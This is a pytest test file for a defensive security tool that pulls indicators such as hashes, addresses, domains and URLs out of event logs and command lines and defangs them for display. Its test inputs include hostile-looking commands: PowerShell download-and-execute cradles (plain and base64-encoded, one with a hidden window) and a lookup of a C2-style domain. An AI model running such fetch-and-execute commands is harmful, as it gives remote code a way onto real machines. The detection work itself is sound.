"""Observables of an event, and where they can be looked up; nothing shown can be followed by accident."""

from __future__ import annotations

from base64 import b64encode
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.investigation.observables import defanged, observables

SHA256 = "ab" * 32


def found(event: dict[str, Any]) -> set[tuple[str, str]]:
    return {(one.kind, one.value) for one in observables(event)}


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"process.hash.sha256": SHA256}, {("hash", SHA256)}),
        ({"destination.ip": ["203.0.113.7"]}, {("address", "203.0.113.7")}),
        ({"destination.ip": "2001:db8::1"}, {("address", "2001:db8::1")}),
        ({"dns.question.name": "cdn.example.com"}, {("domain", "cdn.example.com")}),
        (
            {"process.command_line": "curl.exe -o a https://cdn.example.com/a.txt"},
            {("URL", "https://cdn.example.com/a.txt"), ("domain", "cdn.example.com")},
        ),
        (
            {"process.command_line": "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7:80/x')"},
            {("URL", "http://203.0.113.7:80/x"), ("address", "203.0.113.7")},
        ),
        ({"process.command_line": f"certutil -hashfile {SHA256}"}, {("hash", SHA256)}),
        ({"process.command_line": "ping 1.2.3.4.5 999.1.1.1 1.2.3"}, set()),
        ({"source.ip": "no address"}, set()),
        ({"process.command_line": "a http://[::"}, {("URL", "http://[::")}),
        ({}, set()),
    ],
)
def test_observables_are_found_in_fields_and_in_command_lines(event, expected):
    assert found(event) == expected


@pytest.mark.parametrize("value", ["10.0.0.5", "127.0.0.1", "fe80::1"])
def test_an_address_of_a_private_network_is_looked_up_nowhere(value):
    (one,) = observables({"destination.ip": value})
    assert one.look_ups == {}


def test_links_lead_to_the_services_whatever_the_value_is():
    for one in observables(
        {
            "url.full": "javascript:alert(1)//.x",
            "dns.question.name": "a.b/../../x?y#z\"'<>",
            "process.hash.md5": "%0a",
        }
    ):
        for address in one.look_ups.values():
            assert urlsplit(address).scheme == "https"
            assert not set(address) & set("\"'<> ")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://cdn.example.com/a.txt", "hxxps[:]//cdn[.]example[.]com/a.txt"),
        ("HTTP://10.0.0.1/", "hxxp[:]//10[.]0[.]0[.]1/"),
        ("cdn.example.com", "cdn[.]example[.]com"),
        ("2001:db8::1", "2001[:]db8[:][:]1"),
    ],
)
def test_what_is_shown_is_defanged(text, shown):
    assert defanged(text) == shown


@given(st.dictionaries(st.sampled_from(["process.command_line", "url.full", "source.ip"]), st.text()))
def test_any_text_is_read(event):
    for one in observables(event):
        assert isinstance(one.shown, str)


def encoded(script: str) -> str:
    return b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("nslookup c2.evil-site.top 8.8.8.8", {"c2.evil-site.top", "8.8.8.8"}),
        ("ping -n 1 example.com", {"example.com"}),
        (f"powershell -enc {encoded('iwr https://a.example.net/x.ps1 | iex')}",
         {"https://a.example.net/x.ps1", "a.example.net"}),
        (f"powershell -nop -w hidden -EncodedCommand \"{encoded('ping b.example.org')}\"", {"b.example.org"}),
        (f"powershell /e {encoded('ping b.example.org')}", {"b.example.org"}),
        ("powershell -enc !!!!notbase64!!!!", set()),
        ("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\csc.exe /out:a.dll", set()),
        ("powershell (New-Object System.Net.WebClient)", set()),
        ("more.com C:\\a\\command.com", {"more.com"}),  # a program of DOS, or a domain: nobody can tell
        ("regsvr32 /s scrobj.dll module.tmp a.txt", set()),
    ],
)  # fmt: skip
def test_command_lines_are_searched_in_the_clear_and_encoded(line, expected):
    assert {one.value for one in observables({"process.command_line": line})} == expected
